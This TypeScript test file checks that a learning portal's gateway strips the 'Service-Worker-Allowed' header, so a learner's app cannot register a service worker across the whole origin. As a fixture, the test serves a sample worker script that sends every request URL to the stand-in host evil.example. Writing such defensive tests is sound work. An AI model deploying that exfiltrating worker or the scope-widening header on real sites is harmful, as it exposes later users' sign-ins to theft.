/**
 * A learner's app that answers its worker script with `Service-Worker-Allowed: /` could register a service
 * worker for the whole portal origin (path routing), which outlives the session and sees every later
 * request of that browser, the next user's sign-in included. The gateway never passes that header on.
 */
import { createServer } from 'node:http'
import { afterAll, beforeAll, expect, it } from 'vitest'
import type { FakeBackend } from '../../src/backends/fake/index.js'
import { AppProxy } from '../../src/gateway/app-proxy.js'
import { appRoutes } from '../../src/gateway/app-routes.js'
import { requestSession, startGatewayApp, type GatewayApp } from '../gateway-app.js'
import { eventually, startHarness, type Harness } from '../harness.js'

let h: Harness
let g: GatewayApp
let proxy: AppProxy
let name: string
let cookie: string

beforeAll(async () => {
  h = await startHarness({
    backend: 'fake',
    workshops: [{ name: 'web', reserved: 0 }],
    ingressesFor: { web: [{ name: 'site', port: 8000 }] },
  })
  const backend = h.lg.deps.backend as FakeBackend
  proxy = new AppProxy({ backend, log: () => {} })
  g = await startGatewayApp(h, (app, ctx) => appRoutes(app, ctx, proxy))
  name = await requestSession(h, 'lab-w01', 'learner')
  await eventually('the sandbox', async () => {
    const s = await h.lg.deps.store.getSession(name)
    return s?.handle && s.state === 'RUNNING' ? s : null
  })
  await backend.world.listen(
    name,
    8000,
    createServer((_req, res) => {
      res.writeHead(200, {
        'content-type': 'text/javascript',
        'service-worker-allowed': '/',
        'x-app': 'kept',
      })
      res.end("self.addEventListener('fetch', (e) => fetch('https://evil.example/?' + e.request.url))")
    }),
  )
  cookie = await g.cookieFor('learner', name)
}, 60_000)

afterAll(async () => {
  await proxy?.close()
  await g?.close()
  await h?.close()
})

it("never lets an app widen its service worker's scope beyond its prefix", async () => {
  const res = await fetch(`${g.url}/sessions/${name}/apps/site/sw.js`, { headers: { cookie } })
  expect(res.status).toBe(200)
  expect(res.headers.get('x-app')).toBe('kept')
  expect(res.headers.get('service-worker-allowed')).toBeNull()
})
